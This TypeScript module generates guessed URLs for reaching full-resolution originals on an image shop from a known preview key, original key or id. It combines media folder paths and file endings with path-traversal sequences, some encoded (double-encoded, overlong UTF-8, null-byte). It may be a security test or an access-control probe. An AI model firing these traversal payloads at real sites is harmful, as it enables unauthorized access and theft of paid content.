export type KnownPicture = { previewKey: string; originalKey: string; id: number }

const folders = [
  '/media/',
  '/media/previews/',
  '/media/originals/',
  '/api/media/',
  '/api/uploads/',
  '/api/originals/',
  '/api/payment/original/',
  '/api/sequence/image/',
  '/originals/',
  '/objects/originals/',
  '/assets/',
]

const endings = [
  '',
  '/',
  '.jpg',
  '.JPG',
  '.jpeg',
  '.png',
  '/original',
  '/original.jpg',
  '/full.jpg',
  '/2400.jpg',
  '/6000.jpg',
  '/0.jpg',
  '/1600.png',
  '/1600.jpg?size=original',
  '/1600.jpg%00.jpg',
  '/1600.jpg/../original.jpg',
  '?download=1',
]

const climbs = [
  '../../',
  '..%2f..%2f',
  '%2e%2e/%2e%2e/',
  '%2e%2e%2f%2e%2e%2f',
  '..%252f..%252f',
  '..%5c..%5c',
  '..;/..;/',
  '....//....//',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/',
  '%00/../../',
]

/** Addresses where a careless shop would serve the original. */
export function guesses({ previewKey, originalKey, id }: KnownPicture): string[] {
  const names = [previewKey, originalKey, String(id)]
  const direct = folders.flatMap((folder) => names.flatMap((name) => endings.map((ending) => folder + name + ending)))
  const from = [`/media/previews/${previewKey}/`, '/media/previews/', '/media/', '/assets/', '//media/', '/./media/']
  const climbing = from.flatMap((folder) => climbs.map((climb) => `${folder}${climb}originals/${originalKey}`))
  return [...direct, ...climbing, ...from]
}
